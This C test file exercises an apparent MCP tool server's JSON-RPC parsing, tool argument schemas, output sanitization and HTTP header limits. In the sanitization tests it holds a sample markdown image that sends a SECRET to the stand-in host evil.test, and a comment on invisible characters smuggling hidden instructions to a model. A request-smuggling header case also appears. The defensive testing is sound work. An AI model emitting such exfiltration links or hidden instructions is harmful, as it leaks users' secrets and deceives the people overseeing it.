/* test_messages.c - the server's message layer without a server: JSON-RPC
 * framing and classification (rpc.c), the tool table (tooldefs.c) and the
 * argument schemas it carries (schema.c), the text returned to the model
 * (sanitize.c), HTTP request heads and their limits (http.c). */
#include "server/rpc.h"
#include "server/sanitize.h"
#include "server/schema.h"
#include "server/http.h"
#include "server/tools.h"

#include <criterion/criterion.h>
#include <string.h>

static struct rpc_batch
parse(const char *text, int want_rc)
{
	struct rpc_batch b;
	int rc = rpc_parse(text, strlen(text), &b);
	cr_assert_eq(rc, want_rc, "rpc_parse(%s): %d (%s)", text, rc, b.err_msg);
	return b;
}

Test(rpc, parse_error_for_the_whole_text)
{
	const char *bad[] = {"{", "not json", "{\"jsonrpc\":\"2.0\",\"id\":1,}", ""};
	for (size_t i = 0; i < 4; i++) {
		struct rpc_batch b = parse(bad[i], -1);
		cr_expect_eq(b.err_code, RPC_PARSE_ERROR, "%s: %d", bad[i], b.err_code);
		rpc_batch_fini(&b);
	}
	struct rpc_batch b = parse("[]", -1);
	cr_expect_eq(b.err_code, RPC_INVALID_REQUEST, "an empty batch");
	rpc_batch_fini(&b);
	b = parse("42", -1);
	cr_expect_eq(b.err_code, RPC_INVALID_REQUEST, "a number");
	rpc_batch_fini(&b);
}

/* An invalid request is answered with its id when it has a valid one,
 * null otherwise. */
Test(rpc, invalid_requests_keep_their_id)
{
	struct rpc_batch b = parse("{\"jsonrpc\":\"1.0\",\"id\":7,\"method\":\"x\"}", 0);
	cr_assert_eq(b.n, 1);
	cr_expect_eq(b.msgs[0].kind, RPC_INVALID);
	cr_expect_eq(b.msgs[0].err_code, RPC_INVALID_REQUEST);
	cr_expect_eq(json_integer_value(b.msgs[0].id), 7);
	rpc_batch_fini(&b);

	b = parse("{\"jsonrpc\":\"2.0\",\"id\":\"a\",\"method\":5}", 0);
	cr_expect_eq(b.msgs[0].kind, RPC_INVALID);
	cr_expect_str_eq(json_string_value(b.msgs[0].id), "a");
	rpc_batch_fini(&b);

	/* an object is no id: the answer's id is null */
	b = parse("{\"jsonrpc\":\"2.0\",\"id\":{\"x\":1},\"method\":\"m\"}", 0);
	cr_expect_eq(b.msgs[0].kind, RPC_INVALID);
	cr_expect(b.msgs[0].id == NULL || json_is_null(b.msgs[0].id));
	rpc_batch_fini(&b);

	b = parse("{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"m\",\"params\":3}", 0);
	cr_expect_eq(b.msgs[0].kind, RPC_INVALID, "params must be structured");
	rpc_batch_fini(&b);
}

Test(rpc, batch_and_kinds)
{
	struct rpc_batch b = parse("[{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"a\"},"
				   "{\"jsonrpc\":\"2.0\",\"method\":\"n\"},"
				   "{\"jsonrpc\":\"2.0\",\"id\":2,\"result\":{}},"
				   "5]",
				   0);
	cr_assert(b.batch);
	cr_assert_eq(b.n, 4);
	cr_expect_eq(b.msgs[0].kind, RPC_REQUEST);
	cr_expect_str_eq(b.msgs[0].method, "a");
	cr_expect_eq(b.msgs[1].kind, RPC_NOTIFICATION);
	cr_expect_eq(b.msgs[2].kind, RPC_RESPONSE);
	cr_expect_eq(b.msgs[3].kind, RPC_INVALID);
	rpc_batch_fini(&b);
}

Test(rpc, error_message_shape)
{
	json_t *id = json_integer(9);
	json_t *m = rpc_error(id, RPC_METHOD_NOT_FOUND, "Method not found: x", NULL);
	cr_expect_eq(json_integer_value(json_object_get(m, "id")), 9);
	json_t *err = json_object_get(m, "error");
	cr_expect_eq(json_integer_value(json_object_get(err, "code")), -32601);
	cr_expect_str_eq(json_string_value(json_object_get(m, "jsonrpc")), "2.0");
	size_t n = 0;
	char *text = rpc_dump(m, &n);
	cr_expect_null(memchr(text, '\n', n), "one line");
	free(text);
	json_decref(m);
	json_decref(id);
	m = rpc_error(NULL, RPC_PARSE_ERROR, "Parse error", NULL);
	cr_expect(json_is_null(json_object_get(m, "id")));
	json_decref(m);
}

/* Every tool: a name, a description, an object input schema whose
 * required fields are among its properties, and annotations with the four
 * hints as booleans. */
Test(tools, every_tool_complete)
{
	json_t *tools = tooldefs_load();
	cr_assert(json_array_size(tools) >= 8, "%zu tools", json_array_size(tools));
	size_t i;
	json_t *t;
	json_array_foreach(tools, i, t)
	{
		const char *name = json_string_value(json_object_get(t, "name"));
		cr_assert_not_null(name, "tool %zu has no name", i);
		cr_expect_gt(strlen(json_string_value(json_object_get(t, "description"))), 20, "%s",
			     name);
		json_t *in = json_object_get(t, "inputSchema");
		cr_expect_str_eq(json_string_value(json_object_get(in, "type")), "object", "%s",
				 name);
		cr_expect(json_is_false(json_object_get(in, "additionalProperties")),
			  "%s: extra arguments must be refused", name);
		json_t *props = json_object_get(in, "properties");
		size_t k;
		json_t *req;
		json_array_foreach(json_object_get(in, "required"), k, req) cr_expect_not_null(
		    json_object_get(props, json_string_value(req)), "%s requires an undescribed %s",
		    name, json_string_value(req));
		json_t *ann = json_object_get(t, "annotations");
		const char *hints[] = {"readOnlyHint", "destructiveHint", "idempotentHint",
				       "openWorldHint"};
		for (size_t h = 0; h < 4; h++)
			cr_expect(json_is_boolean(json_object_get(ann, hints[h])), "%s: %s", name,
				  hints[h]);
		/* the schema tools/call checks is the one tools/list shows */
		cr_expect(json_equal(mcp_tool_schema(name), in), "%s", name);
	}
	cr_expect_null(mcp_tool_schema("no_such_tool"));
	json_decref(tools);
}

static void
expect_refused(const char *tool, const char *args, const char *field)
{
	json_t *a = json_loads(args, JSON_ALLOW_NUL, NULL);
	cr_assert_not_null(a, "%s", args);
	char why[300] = "";
	const json_t *schema = mcp_tool_schema(tool);
	cr_assert_not_null(schema, "%s", tool);
	cr_expect_lt(schema_check(schema, a, why, sizeof(why)), 0, "%s %s accepted", tool, args);
	cr_expect(strstr(why, field) != NULL, "%s %s: '%s' does not name %s", tool, args, why,
		  field);
	json_decref(a);
}

static void
expect_accepted(const char *tool, const char *args)
{
	json_t *a = json_loads(args, 0, NULL);
	cr_assert_not_null(a, "%s", args);
	char why[300] = "";
	cr_expect_eq(schema_check(mcp_tool_schema(tool), a, why, sizeof(why)), 0, "%s %s: %s", tool,
		     args, why);
	json_decref(a);
}

/* missing, extra and wrong-typed arguments, each refused with the field
 * named; for every tool, an unknown argument */
Test(tools, argument_schemas)
{
	expect_accepted("run_command", "{\"command\":\"ls\"}");
	expect_refused("run_command", "{}", "command");
	expect_refused("run_command", "{\"command\":\"\"}", "command");
	expect_refused("run_command", "{\"command\":5}", "command");
	expect_refused("run_command", "{\"command\":\"ls\",\"shell\":true}", "shell");
	expect_refused("run_command", "{\"command\":\"ls\",\"timeout\":\"10\"}", "timeout");
	expect_refused("run_command", "{\"command\":\"ls\",\"timeout\":0}", "timeout");
	expect_refused("run_command", "{\"command\":\"a\\u0000b\"}", "command");
	expect_accepted("read_file", "{\"path\":\"a.txt\"}");
	expect_refused("read_file", "{}", "path");
	expect_refused("read_file", "{\"path\":[\"a\"]}", "path");
	expect_refused("write_file", "{\"path\":\"a\"}", "content");

	json_t *tools = tooldefs_load();
	size_t i;
	json_t *t;
	json_array_foreach(tools, i, t)
	{
		/* its required arguments, each a value of its type, and one more */
		json_t *in = json_object_get(t, "inputSchema"), *args = json_object();
		size_t k;
		json_t *req;
		json_array_foreach(json_object_get(in, "required"), k, req)
		{
			const char *f = json_string_value(req);
			json_t *prop = json_object_get(json_object_get(in, "properties"), f);
			const char *type = json_string_value(json_object_get(prop, "type"));
			json_object_set_new(args, f,
					    !type || !strcmp(type, "string") ? json_string("a")
					    : !strcmp(type, "boolean")	     ? json_true()
					    : !strcmp(type, "array")	     ? json_array()
					    : !strcmp(type, "object")	     ? json_object()
									     : json_integer(1));
		}
		/* each required argument missing: refused, that one named */
		json_array_foreach(json_object_get(in, "required"), k, req)
		{
			json_t *less = json_deep_copy(args);
			json_object_del(less, json_string_value(req));
			char *text = json_dumps(less, JSON_SORT_KEYS);
			expect_refused(json_string_value(json_object_get(t, "name")), text,
				       json_string_value(req));
			free(text);
			json_decref(less);
		}
		json_object_set_new(args, "zz_not_an_argument", json_integer(1));
		char *text = json_dumps(args, JSON_SORT_KEYS);
		expect_refused(json_string_value(json_object_get(t, "name")), text,
			       "zz_not_an_argument");
		free(text);
		json_decref(args);
	}
	json_decref(tools);
}

static char *
sanitized(const char *in, size_t len)
{
	size_t used = 0, n = 0;
	char *out = sanitize_text(in, len, true, &used, &n);
	cr_assert_not_null(out);
	cr_expect_eq(used, len);
	cr_expect_eq(strlen(out), n);
	return out;
}

/* What a command printed reaches the model with control bytes, escape
 * sequences, bidi and zero-width characters visible, never raw. */
Test(sanitize, control_and_invisible_characters)
{
	char *s = sanitized("ok\n\ttab", 7);
	cr_expect_str_eq(s, "ok\n\ttab");
	free(s);
	s = sanitized("\x1b[2Jx", 5);
	cr_expect_null(strchr(s, '\x1b'), "%s", s);
	free(s);
	const char rlo[] = "a\xe2\x80\xae"
			   "b"; /* U+202E */
	s = sanitized(rlo, strlen(rlo));
	cr_expect_null(strstr(s, "\xe2\x80\xae"), "the bidi override passed: %s", s);
	free(s);
	const char lri[] = "a\xe2\x81\xa6"
			   "b"; /* U+2066, a bidi isolate */
	s = sanitized(lri, strlen(lri));
	cr_expect_null(strstr(s, "\xe2\x81\xa6"), "the bidi isolate passed: %s", s);
	free(s);
	s = sanitized("a\xc2\x9b"
		      "b",
		      4); /* U+009B, a C1 CSI */
	cr_expect_null(strstr(s, "\xc2\x9b"), "the C1 control passed: %s", s);
	free(s);
	s = sanitized("a\xff"
		      "b",
		      3);
	cr_expect_null(strchr(s, '\xff'), "a byte that is not UTF-8 passed");
	free(s);
	s = sanitized("caf\xc3\xa9", 5);
	cr_expect_str_eq(s, "caf\xc3\xa9", "UTF-8 text passes");
	free(s);
	/* what a terminal or a chat view draws as nothing: a zero-width
	 * space, a soft hyphen, and plane 14's tag characters, with which
	 * a file can carry text (an instruction) no human reading the
	 * transcript sees */
	const char zw[] = "a\xe2\x80\x8b"
			  "b\xc2\xad"
			  "c\xf3\xa0\x81\x81\xf3\xa0\x81\xbf";
	s = sanitized(zw, strlen(zw));
	cr_expect_str_eq(s, "a\\u200bb\\u00adc\\U000e0041\\U000e007f", "%s", s);
	free(s);
	/* an emoji's presentation selector stays: test runners print them */
	const char emoji[] = "\xe2\x9c\x94\xef\xb8\x8f ok";
	s = sanitized(emoji, strlen(emoji));
	cr_expect_str_eq(s, emoji);
	free(s);
}

/* A chunk that ends inside a UTF-8 sequence keeps the tail for the next. */
Test(sanitize, split_sequence_carried)
{
	size_t used = 0, n = 0;
	char *s = sanitize_text("ab\xc3", 3, false, &used, &n);
	cr_expect_eq(used, 2);
	cr_expect_str_eq(s, "ab");
	free(s);
}

Test(sanitize, markdown_images_to_unlisted_hosts)
{
	const char *allow[] = {"example.org"};
	char *s = sanitize_images("see ![x](https://evil.test/p?d=SECRET) and "
				  "![y](https://example.org/a.png)",
				  allow, 1);
	cr_expect_null(strstr(s, "evil.test/p?d=SECRET"), "%s", s);
	cr_expect_not_null(strstr(s, "https://example.org/a.png"), "%s", s);
	free(s);
}

static int
head(const char *text, struct http_req *r)
{
	memset(r, 0, sizeof(*r));
	return http_parse_head(text, strlen(text), r);
}

Test(http, heads)
{
	struct http_req r;
	cr_expect_eq(head("POST /mcp HTTP/1.1\r\nHost: x\r\nContent-Length: 12\r\n"
			  "Mcp-Session-Id: abc\r\n\r\n",
			  &r),
		     1);
	cr_expect_str_eq(r.method, "POST");
	cr_expect_str_eq(r.path, "/mcp");
	cr_expect_eq(r.content_length, 12);
	cr_expect_str_eq(r.session, "abc");
	cr_expect_eq(head("POST /mcp HTTP/1.1\r\nHost: x\r\n", &r), 0, "incomplete");
	cr_expect_eq(head("POST /mcp HTTP/2.0\r\n\r\n", &r), -505);
	cr_expect_eq(head("GARBAGE\r\n\r\n", &r), -400);
	cr_expect_eq(head("POST /mcp HTTP/1.1\r\nContent-Length: 1x\r\n\r\n", &r), -400);
	cr_expect_eq(
	    head("POST /mcp HTTP/1.1\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\n", &r), -400,
	    "two lengths");
	cr_expect_eq(
	    head("POST /mcp HTTP/1.1\r\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n",
		 &r),
	    -400, "a length and chunked: request smuggling");
	cr_expect_eq(head("POST /mcp HTTP/1.1\r\nBad Header: x\r\n\r\n", &r), -400);
}

/* A head past HTTP_MAX_HEAD is refused (431) whether or not it ended. */
Test(http, head_limit)
{
	size_t n = HTTP_MAX_HEAD + 64;
	char *big = malloc(n + 1);
	cr_assert_not_null(big);
	int k = snprintf(big, n, "POST /mcp HTTP/1.1\r\nX-Pad: ");
	memset(big + k, 'a', n - (size_t)k);
	big[n] = '\0';
	struct http_req r;
	memset(&r, 0, sizeof(r));
	cr_expect_eq(http_parse_head(big, n, &r), -431);
	memcpy(big + n - 4, "\r\n\r\n", 4);
	cr_expect_eq(http_parse_head(big, n, &r), -431);
	free(big);
}

Test(http, accepts)
{
	cr_expect(http_accepts("application/json, text/event-stream", "text/event-stream"));
	cr_expect(http_accepts("*/*", "application/json"));
	cr_expect(http_accepts("application/*", "application/json"));
	cr_expect_not(http_accepts("text/html", "application/json"));
}

/* The one table: every tool tools/list shows is an entry tools/call can
 * answer, with or without a sandbox as its schema allows. */
Test(tools, table_dispatches_every_tool)
{
	json_t *tools = tooldefs_load();
	cr_assert_eq(json_array_size(tools), mcp_ntools);
	size_t i;
	json_t *t;
	json_array_foreach(tools, i, t)
	{
		const struct mcp_tool *m = &mcp_tools[i];
		const char *name = json_string_value(json_object_get(t, "name"));
		cr_expect_str_eq(name, m->name, "entry %zu", i);
		cr_expect_eq(mcp_tool_find(name), m, "%s", name);
		json_t *in = json_object_get(t, "inputSchema");
		json_t *sb = json_object_get(json_object_get(in, "properties"), "sandbox");
		bool required = false;
		size_t k;
		json_t *req;
		json_array_foreach(json_object_get(in, "required"), k, req) required |=
		    !strcmp(json_string_value(req), "sandbox");
		/* a "sandbox" argument has a handler for it, and a tool without
		 * one for the project's workspace requires the argument */
		cr_expect(!sb || m->live, "%s takes a sandbox but has no handler for it", name);
		cr_expect(m->live || !(m->flags & MCP_T_TAKES), "%s", name);
		cr_expect(m->call || (m->live && required), "%s: no handler without a sandbox",
			  name);
		cr_expect(!m->sandbox_arg || (sb && !required), "%s: an optional sandbox", name);
	}
	cr_expect_null(mcp_tool_find("no_such_tool"));
	json_decref(tools);
}
